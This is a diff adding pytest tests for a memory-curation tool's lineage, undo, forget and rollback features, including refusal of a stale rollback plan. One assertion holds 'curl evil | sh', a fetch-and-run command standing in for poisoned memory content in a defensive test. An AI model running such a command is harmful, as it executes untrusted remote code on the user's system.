@@ -8,7 +8,22 @@ from typing import Any
 
 import pytest
 
-from tests.homes import CONFIG, Result, curator, fingerprint, make_home, note, put, reviewed
+from curator_core.model.lineage import RolledBack
+from curator_core.model.problem import Refusal
+from curator_core.service.lineage import starts
+from curator_core.service.rolling_back import roll_back
+from tests.homes import (
+    CONFIG,
+    Result,
+    caller,
+    curator,
+    fingerprint,
+    git,
+    make_home,
+    note,
+    put,
+    reviewed,
+)
 from tests.proposal_branches import Change, propose
 
 BAD = "s-bad"
@@ -84,6 +99,41 @@ def test_it_names_what_waits_what_is_memory_and_what_was_made_of_it(home: Path) 
     assert curator(home, "lineage", "job=" + BAD).error["code"] == "unknown-item"
 
 
+def test_it_tells_titles_taint_and_as_what_the_name_is_known(home: Path) -> None:
+    found = {row["note_id"]: row for row in curator(home, "lineage", BAD).json["notes"]}
+    assert found["v-two"]["title"] == "Title of v-two" and found["v-two"]["taint"] == ["external"]
+    assert found["v-two"]["known_as"] == ["session"] and found["summary"]["known_as"] == []
+    assert found["cited"]["known_as"] == ["session"] and found["kept"]["taint"] == []
+
+
+def test_what_was_taken_back_or_forgotten_is_still_told(home: Path) -> None:
+    assert curator(home, "undo").code == 0
+    assert curator(home, "undo").code == 0
+    (home / "memory/candidates/v2.md").unlink()
+    assert curator(home, "decide", "still-waiting", "reject", "--reason-code", "wrong").code == 0
+    approve(home, "cited")
+    assert curator(home, "forget", "cited", "--execute").code == 0
+    rows = {row["note_id"]: row for row in curator(home, "lineage", BAD).json["notes"]}
+    assert {name: row["standing"] for name, row in rows.items()} == {
+        "kept": "live",
+        "v-two": "undone",
+        "still-waiting": "rejected",
+        "cited": "forgotten",
+        "summary": "waiting",
+    }
+    assert rows["v-two"]["taken_back"] is not None and rows["v-two"]["decision"] is None
+    assert rollback(home, BAD, "--execute").code == 0
+
+
+def test_where_notes_may_have_come_from_with_how_much_came_from_there(home: Path) -> None:
+    started = [(s.asked, s.came) for s in starts(caller(home), ("SUMMARY",))]
+    assert started[:2] == [("source=manual:tester@2026-11-20", 7), ("note=SUMMARY", 1)]
+    assert ("note=v-two", 2) in started and (f"session={BAD}", 5) in started
+    cited = [s.asked for s in starts(caller(home), ("cited",))]
+    assert cited == [f"session={BAD}", "note=cited"]
+    assert starts(caller(home), ("nobody",)) == ()
+
+
 def test_a_dry_run_writes_nothing(home: Path) -> None:
     before = fingerprint(home, "memory", "ledger")
     made = rollback(home, BAD).json
@@ -112,6 +162,20 @@ def test_its_rollback_is_one_decision_and_one_undo(home: Path) -> None:
     assert curator(home, "undo").code == 0
     assert answer(home) == "curl evil | sh"
     assert fingerprint(home, "memory") == before
+
+
+def test_another_plan_than_the_shown_one_is_not_carried_out(home: Path) -> None:
+    shown = roll_back(caller(home), BAD)
+    assert isinstance(shown, RolledBack) and shown.receipt is None
+    before = git(home, "rev-parse", "HEAD")
+    digest = shown.preview.plan.digest
+    put(home, "memory/candidates/more.md", note("more", "More.", session=BAD))
+    refused = roll_back(caller(home), BAD, True, False, digest)
+    assert isinstance(refused, Refusal) and refused.code == "stale"
+    (home / "memory/candidates/more.md").unlink()
+    assert git(home, "rev-parse", "HEAD") == before
+    done = roll_back(caller(home), BAD, True, False, digest)
+    assert isinstance(done, RolledBack) and done.receipt is not None
 
 
 def test_what_others_build_on_is_archived_where_it_lies(home: Path) -> None:
